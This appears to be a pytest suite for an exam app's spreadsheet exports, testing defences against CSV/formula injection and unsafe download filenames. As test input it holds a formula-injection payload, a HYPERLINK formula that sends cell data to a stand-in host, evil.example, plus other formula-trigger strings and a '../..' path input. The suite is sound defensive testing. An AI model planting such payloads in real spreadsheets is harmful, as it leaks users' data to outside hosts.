"""Every spreadsheet Examhall writes is safe to open (OWASP CSV injection): text that would run
as a formula is written with a leading apostrophe, numbers stay numbers, and our own exports
import back unchanged.  Also: exports of banks and sessions with awkward names download."""
from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from server.bank import formats
from server.bank.models import Question
from server.bank.operations import import_into
from server.database import commit
from server.exams.models import Participant
from server.extensions import db
from server.spreadsheets import TRIGGERS, file_name, neutralise, restore
from tests.builders import answer_and_end

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
HOSTILE = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "  =1+1", "＝１＋１", "＠SUM", "－1",
           "'=already quoted"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_one_apostrophe_and_comes_back(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


def test_harmless_text_and_numbers_are_left_alone():
    for value in ("张三", "a=b", "'quoted", "", 3, -3.5, None):
        assert neutralise(value) == value
    assert restore("'quoted") == "'quoted"


@given(st.text(alphabet=st.sampled_from(["'", " ", "a", "中", *TRIGGERS]), max_size=8))
def test_restore_undoes_neutralise_for_any_text(text):
    cell = neutralise(text)
    assert restore(cell) == text
    assert not cell.lstrip(" \u3000\n").startswith(TRIGGERS)


def test_a_trainee_named_as_a_formula_is_text_in_the_results(app, started, client, auth):
    trainee = db.session.scalars(sa.select(Participant).where(Participant.session_id == started.id)).first().user
    trainee.name = HYPERLINK
    db.session.commit()
    answer_and_end(started)
    auth.login("J100")

    workbook = load_workbook(io.BytesIO(client.get(f"/sessions/{started.id}/results.xlsx").data))
    cells = [cell for row in workbook["成绩"].iter_rows(min_row=2) for cell in row]
    named = next(cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value)
    assert named.value == "'" + HYPERLINK and named.data_type == "s"
    assert not any(cell.data_type == "f" for sheet in workbook for row in sheet.iter_rows() for cell in row)
    scores = [row[5].value for row in workbook["成绩"].iter_rows(min_row=2)]  # 满分
    assert scores and all(isinstance(score, int | float) for score in scores)

    text = client.get(f"/sessions/{started.id}/results.csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert [cell for row in rows for cell in row if "HYPERLINK" in cell] == ["'" + HYPERLINK]
    assert all(not cell.startswith(TRIGGERS) for row in rows for cell in row)


@pytest.fixture
def hostile_bank(org):
    """A bank whose stems, options and explanations begin like formulas, named with a slash."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["题型", "题干", "A", "B", "C", "D", "答案", "解析", "标签"])
    rows = [["单选", "=1+2 等于几", "+3", "-3", "@3", "＝3", "A", "=解析", "标签"],
            ["判断", "-1 是负数", "", "", "", "", "对", "", ""],
            ["单选", "普通题目", "甲", "乙", "", "", "B", "", ""]]
    for row in rows:
        sheet.append(row)
        for cell in sheet[sheet.max_row]:
            cell.data_type = "s"  # as typed after an apostrophe: text, not a formula
    data = io.BytesIO()
    workbook.save(data)
    result = formats.parse(data.getvalue(), "hostile.xlsx")
    assert not result.issues, result.issues
    bank = import_into(None, "对公/个人: 存款?[2026]*", org["HQ"], result, "hostile.xlsx").bank
    commit()
    return bank


def _texts(bank) -> list[tuple]:
    return sorted((q.stem, tuple(sorted(q.options.items())), q.answer, q.explanation or "")
                  for q in db.session.scalars(sa.select(Question).where(Question.bank_id == bank.id)))


def test_a_bank_export_is_safe_downloads_under_its_odd_name_and_imports_back(hostile_bank, people, client, auth):
    auth.login("A001")
    response = client.get(f"/bank/{hostile_bank.id}/export.xlsx")
    assert response.status_code == 200
    disposition = response.headers["Content-Disposition"]
    assert "filename*=UTF-8''" in disposition and "/" not in disposition.split("filename*=")[1]
    workbook = load_workbook(io.BytesIO(response.data))
    values = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row if cell.value]
    assert "'=1+2 等于几" in [cell.value for cell in values]
    assert all(cell.data_type == "s" and not cell.value.startswith(TRIGGERS) for cell in values)

    again = formats.parse(response.data, "export.xlsx")
    assert not again.issues
    copy = import_into(None, "副本", hostile_bank.branch, again, "export.xlsx").bank
    commit()
    assert _texts(copy) == _texts(hostile_bank)

    gift = client.get(f"/bank/{hostile_bank.id}/export.gift")
    assert gift.status_code == 200 and "/" not in gift.headers["Content-Disposition"].split("filename*=")[1]
    lines = [line for line in gift.data.decode().splitlines() if line]
    assert all(line.startswith(("::", "//")) for line in lines)


def test_download_names_keep_the_words_and_lose_what_no_system_allows():
    assert file_name("对公/个人: 存款?[2026]*", ".xlsx") == "对公_个人_ 存款_2026.xlsx"
    assert file_name("../..", ".csv") == "export.csv"


def test_the_sheet_of_someone_removed_from_the_roster_is_a_clear_404(app, started, client, auth):
    member = db.session.scalars(sa.select(Participant).where(Participant.session_id == started.id)).first()
    member.removed = True
    db.session.commit()
    answer_and_end(started, {})
    auth.login("J100")
    response = client.get(f"/sessions/{started.id}/participants/{member.id}")
    page = response.get_data(as_text=True)
    assert response.status_code == 404 and ("removed" in page or "移出" in page)
    auth.logout()
    auth.login(member.user.employee_no)
    mine = client.get(f"/my/results/{member.id}")
    page = mine.get_data(as_text=True)
    assert mine.status_code == 404 and ("removed" in page or "移出" in page)
